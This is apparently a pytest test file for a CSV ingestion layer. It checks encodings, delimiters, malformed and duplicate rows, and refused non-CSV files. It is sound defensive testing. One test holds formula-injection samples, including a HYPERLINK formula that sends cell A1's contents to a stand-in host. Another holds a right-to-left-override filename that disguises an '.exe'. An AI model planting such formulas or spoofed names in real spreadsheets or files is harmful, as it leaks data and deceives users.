"""CSV files as users bring them: every file of the shared collections, and what our own rules say of the rest."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from graph.errors import FileRefused
from tests.ingest.raw import by_child, here, one

CONTACTS = ["账户", "姓名", "部门", "职位", "角色", "态度", "电话", "邮箱", "备注"]

DECIDED_ABOVE = {
    "bad-blank-required.csv": 7,
    "bad-total-row.csv": 6,
    "bad-dates-and-numbers.csv": 7,
    "bad-excel-mangled.csv": 2,
    "bad-no-header.csv": 4,
    "dup-same-person-nfc-nfd.csv": 2,
    "dup-fullwidth-and-space.csv": 2,
}
"""Files whose rows are sound as rows: what their columns mean is judged by the layer above. Rows given to it."""

GENERATED = [
    "ok-utf8", "ok-utf8-bom", "ok-gbk", "ok-utf16le-bom", "ok-crlf", "ok-cr-only", "ok-semicolon-sep-line", "ok-tab",
    "bad-mixed-encodings", "bad-nul-bytes", "bad-overlong-utf8", "bad-cesu8-surrogates", "bad-ragged",
    "bad-unclosed-quote", "bad-no-header", "bad-duplicate-headers", "bad-empty", "bad-only-bom", "bad-header-only",
    "bad-blank-required", "bad-dates-and-numbers", "bad-excel-mangled", "bad-total-row", "dup-same-person-nfc-nfd",
    "dup-fullwidth-and-space", "hostile-formulas", "hostile-bidi", "hostile-long-cell", "hostile-wide",
    "wrong-type-html-as", "wrong-type-png-as", "wrong-type-zip-as",
]  # fmt: skip


REFUSED = ("bad-empty", "bad-only-bom", "wrong-type-html-as", "wrong-type-png-as", "wrong-type-zip-as")
"""Files that are no table at all."""


@pytest.fixture(scope="module")
def generated(shared_data: Path) -> Path:
    return shared_data / "bad-input" / "csv-generated"


@pytest.mark.parametrize("stem", GENERATED)
def test_a_generated_file_is_read_as_expected(generated: Path, stem: str) -> None:
    name = f"{stem}.csv"
    expected = json.loads((generated / "expected.json").read_text(encoding="utf-8"))[name]
    if stem in REFUSED:
        assert (expected["accepted_rows"], expected["rejected_lines"]) == (0, [])
        with pytest.raises(FileRefused) as refused:
            by_child(generated / name)
        assert refused.value.params["reason"] == expected["reason"]
        return
    table = one(generated / name)
    if name in DECIDED_ABOVE:
        assert (len(table.rows), table.rejects) == (DECIDED_ABOVE[name], [])
        return
    if expected["accepted_rows"] is not None:
        assert len(table.rows) == expected["accepted_rows"]
    if stem == "bad-mixed-encodings":  # each line that cannot be decoded is kept out
        assert table.rejected == [(2, "encoding"), (4, "encoding"), (6, "encoding")]
    else:
        assert table.rejected == [(line, expected["reason"]) for line in expected["rejected_lines"]]
    assert not any("\ufffd" in cell for row in table.rows for cell in row)


def test_the_list_of_generated_files_is_complete(generated: Path) -> None:
    expected = json.loads((generated / "expected.json").read_text(encoding="utf-8"))
    assert {f"{stem}.csv" for stem in GENERATED} == set(expected)


@pytest.mark.parametrize(
    ("stem", "encoding", "delimiter", "first_line"),
    [
        ("ok-utf8", "utf-8", ",", 2),
        ("ok-utf8-bom", "utf-8-sig", ",", 2),
        ("ok-gbk", "gb18030", ",", 2),
        ("ok-utf16le-bom", "utf-16-le", ",", 2),
        ("ok-crlf", "utf-8", ",", 2),
        ("ok-cr-only", "utf-8", ",", 2),
        ("ok-semicolon-sep-line", "utf-8", ";", 3),
        ("ok-tab", "utf-8", "\t", 2),
    ],
)
def test_every_way_to_write_a_table_gives_the_same_rows(
    generated: Path, stem: str, encoding: str, delimiter: str, first_line: int
) -> None:
    table, plain = one(generated / f"{stem}.csv"), one(generated / "ok-utf8.csv")
    assert (table.encoding, table.delimiter, table.name) == (encoding, delimiter, stem)
    assert table.header == CONTACTS
    assert table.header_line == first_line - 1
    assert table.lines == list(range(first_line, first_line + 5))
    assert table.rows == plain.rows or stem == "ok-gbk"  # which has no é and ë
    assert table.rows[0][1] == "王伟"


def test_formulas_and_direction_marks_are_given_exactly(generated: Path) -> None:
    formulas, marks = one(generated / "hostile-formulas.csv"), one(generated / "hostile-bidi.csv")
    assert formulas.rows == [
        ['=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")', "@SUM(1+1)", "+86 138 0000 0000"],
        ["-5", "\t=1+1", "\r=2+2"],
    ]
    assert marks.rows == [["\u202egnp.exe", "abc\u2066\u200bdef"]]


def test_an_open_quote_keeps_out_everything_behind_it_and_says_so(generated: Path) -> None:
    (reject,) = one(generated / "bad-unclosed-quote.csv").rejects
    assert reject.detail == "lines 7 to 12 are not read"
    assert reject.cells == ('"未闭合', "王五", "采购部")


def test_a_rejected_row_brings_its_cells_with_undecodable_bytes_as_escapes(generated: Path) -> None:
    (reject,) = one(generated / "bad-overlong-utf8.csv").rejects
    assert (reject.column, reject.cells[:2]) == ("账户", (r"\xc0\xafX", r"\xe0\x80\xafY"))


SPECTRUM = (
    "comma_in_quotes", "empty", "empty_crlf", "escaped_quotes", "json", "newlines", "newlines_crlf",
    "quotes_and_newlines", "simple", "simple_crlf", "utf8",
)  # fmt: skip


@pytest.mark.parametrize("stem", SPECTRUM)
def test_csv_spectrum_gives_its_published_answers(shared_data: Path, stem: str) -> None:
    folder = shared_data / "bad-input" / "csv-spectrum"
    table = one(folder / "csvs" / f"{stem}.csv")
    published = json.loads((folder / "json" / f"{stem}.json").read_text(encoding="utf-8"))
    assert [dict(zip(table.header, row, strict=True)) for row in table.rows] == published
    assert table.rejects == []


def test_text_that_was_damaged_before_it_came_is_rejected(shared_data: Path) -> None:
    table = one(shared_data / "bad-input" / "csv-spectrum" / "csvs" / "location_coordinates.csv")
    assert table.rejected == [(2, "encoding")]
    assert table.rejects[0].column == "Location Coordinates"


FRICTIONLESS: dict[str, tuple[int, list[tuple[int, str]]] | str] = {
    "blank-cells": (5, []),
    "blank-headers": (0, [(1, "header")]),
    "blank-rows": (2, []),
    "blank-rows-multiple": (2, []),
    "blank-rows-no-fields": (2, []),
    "bom": (2, []),
    "capital-invalid": (0, [(1, "header")]),
    "delimiter": (2, []),
    "duplicate-column": (0, [(1, "header")]),
    "duplicate-headers": (0, [(1, "header")]),
    "duplicate-rows": (3, []),
    "empty": "empty",
    "encoding-issue-274": (507, []),
    "invalid": (0, [(1, "header")]),
    "latin1": "encoding",
    "matrix": (4, []),
    "schema-errors": (3, [(5, "field_count")]),
    "structure-errors": (2, [(5, "field_count")]),
}


@pytest.mark.parametrize("stem", FRICTIONLESS)
def test_invalid_tables_of_others_are_told_apart(shared_data: Path, stem: str) -> None:
    expected = FRICTIONLESS[stem]
    path = shared_data / "bad-input" / "frictionless-invalid" / f"{stem}.csv"
    if isinstance(expected, str):
        with pytest.raises(FileRefused) as refused:
            by_child(path)
        assert refused.value.params["reason"] == expected
    else:
        table = one(path)
        assert (len(table.rows), table.rejected) == expected


WRITTEN = {
    "sep line in quotes": ('"sep=;"\r\na;b\r\n1;2\r\n', ["a", "b"], [["1", "2"]], []),
    "sep line in capitals": ("SEP=|\na|b\n1|2\n", ["a", "b"], [["1", "2"]], []),
    "blank lines before the header": ("\n \n\na,b\n1,2\n", ["a", "b"], [["1", "2"]], []),
    "blank cells at the end of a row": ("a,b\n1,2,,\n3,4,,x\n", ["a", "b"], [["1", "2"]], [(3, "field_count")]),
    "blank columns at the end": ("a,b,,\n1,2,,\n", ["a", "b"], [["1", "2"]], []),
    "a blank column between": ("a,,b\n1,,2\n", ["a", "b"], [["1", "2"]], []),
    "a value without a heading": ("a,b,\n1,2,\n1,2,x\n", ["a", "b"], [], [(1, "header")]),
    "the same heading but for width": ("name,ＮＡＭＥ \n1,2\n", ["name", "ＮＡＭＥ"], [], [(1, "header")]),
    "a heading in decomposed letters": ("te\u0301l,b\n1,2\n", ["t\u00e9l", "b"], [["1", "2"]], []),
    "blanks around cells are kept": (" a ,b\n 1 , 2\n", ["a", "b"], [[" 1 ", " 2"]], []),
    "text after a closing quote": ('a,b\n"x"y,2\n3,4\n', ["a", "b"], [["3", "4"]], [(2, "unclosed_quote")]),
    "a quote within a cell": ('a,b\n5" disk,2\n', ["a", "b"], [['5" disk', "2"]], []),
    "a quote closed too late": ('a,b\n"x,2\n3,"4"\n5,6\n', ["a", "b"], [["5", "6"]], [(2, "unclosed_quote")]),
    "a lone return in a row": ("a,b\n1\r,2\n3,4\n", ["a", "b"], [["3", "4"]], [(2, "control_character")]),
    "an escape character": ("a,b\n1,\x1b[31m\n3,4\n", ["a", "b"], [["3", "4"]], [(2, "control_character")]),
    "a control in the second range": ("a,b\n1,\x85\n3,4\n", ["a", "b"], [["3", "4"]], [(2, "control_character")]),
    "a control in the header": ("a,b\x00\n1,2\n", ["a", "b\x00"], [], [(1, "control_character")]),
    "no header line end": ("a,b", ["a", "b"], [], []),
    "semicolons with commas inside": ("a;b, c\n1;2, 3\n4;5\n", ["a", "b, c"], [["1", "2, 3"], ["4", "5"]], []),
    "one column": ("name\n王伟\n", ["name"], [["王伟"]], []),
}


@pytest.mark.parametrize("case", WRITTEN)
def test_a_table_is_read_as_it_is_written(tmp_path: Path, case: str) -> None:
    text, header, rows, rejected = WRITTEN[case]
    path = tmp_path / "t.csv"
    path.write_bytes(text.encode())
    (table,) = here(path)
    assert (table.header, table.rows, table.rejected) == (header, rows, rejected)
